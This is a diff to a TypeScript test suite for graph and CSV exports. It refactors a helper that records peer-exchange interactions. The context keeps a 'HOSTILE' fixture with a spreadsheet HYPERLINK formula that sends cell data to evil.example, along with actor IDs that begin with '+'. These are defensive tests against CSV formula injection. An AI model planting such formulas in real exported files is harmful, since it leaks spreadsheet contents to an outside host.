@@ -3,7 +3,7 @@ import { parse as parseGexf } from 'graphology-gexf';
 import { DOMParser } from '@xmldom/xmldom';
 import { parse as parseCsv } from 'csv-parse/sync';
 import { unzipSync, strFromU8 } from 'fflate';
-import { RECORD_INTERACTIONS, startTestServer, UPSERT_ACTORS, type TestServer } from './harness';
+import { peerExchange, RECORD_INTERACTIONS, startTestServer, UPSERT_ACTORS, type TestServer } from './harness';
 
 const HOSTILE = {
   link: '=HYPERLINK("http://evil.example/?x="&A1,"Click me")',
@@ -24,18 +24,12 @@ beforeAll(async () => {
     ],
   });
   expect(actors.errors).toBeUndefined();
-  const tie = (day: string, from: string, to: string[]) => ({
-    kind: 'PEER_EXCHANGE',
-    occurredAt: `${day}T12:00:00Z`,
-    initiatorId: from,
-    participantIds: to,
-  });
   const recorded = await server.gql(RECORD_INTERACTIONS, {
     interactions: [
-      tie('2019-09-10', 'fdn', ['+a']),
-      tie('2020-09-10', '+a', ['b']),
-      tie('2021-09-10', 'b', ['c']),
-      tie('2022-09-10', 'c', ['fdn']),
+      peerExchange('2019-09-10', 'fdn', ['+a']),
+      peerExchange('2020-09-10', '+a', ['b']),
+      peerExchange('2021-09-10', 'b', ['c']),
+      peerExchange('2022-09-10', 'c', ['fdn']),
     ],
   });
   expect(recorded.errors).toBeUndefined();
